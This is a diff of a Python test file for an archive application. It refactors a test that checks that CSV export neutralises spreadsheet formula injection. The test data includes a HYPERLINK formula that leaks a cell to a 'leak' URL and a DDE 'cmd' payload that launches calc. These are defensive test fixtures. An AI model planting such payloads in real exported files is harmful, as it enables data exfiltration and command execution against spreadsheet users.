@@ -11,8 +11,6 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import update
 
-from archive_tui.config import load_config, write_default_config
-from archive_tui.db import open_database
 from archive_tui.reports.certificates import write_issue_report_xlsx
 from archive_tui.reports.tables import csv_cell, typed, write_csv
 from archive_tui.services import transfers
@@ -26,6 +24,7 @@ from archive_tui.services.importing import run_import
 from archive_tui.services.printing import print_shelf_list
 from archive_tui.services.transfer_forms import manifest
 from models import ArchiveFile, Household, Issuer
+from tests.conftest import another_archive
 
 LEAK = '=HYPERLINK("http://localhost:8000/?leak="&E2,"点击")'
 HOSTILE = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=1+1"]
@@ -80,11 +79,7 @@ def test_csv_files_write_formula_text_with_a_quote_and_import_takes_it_off(engin
     folder, _counts = export_nyt2539(engine, config, tmp_path / "国标")
     text = (folder / "CBF.csv").read_text(encoding="utf-8-sig")
     assert "'=HYPERLINK(" in text and "'@SUM" not in text.replace("'@SUM(A1:A9)", "")
-    second_dir = tmp_path / "second"
-    second_dir.mkdir()
-    write_default_config(second_dir / "config.toml")
-    second_config = load_config(second_dir / "config.toml")
-    second = open_database(second_config.database_url)
+    second_config, second = another_archive(tmp_path / "second")
     run_import(second, second_config, folder)
     assert sorted(h["name"] for h in list_households(second)) == sorted(h["name"] for h in hostile)
     second.dispose()
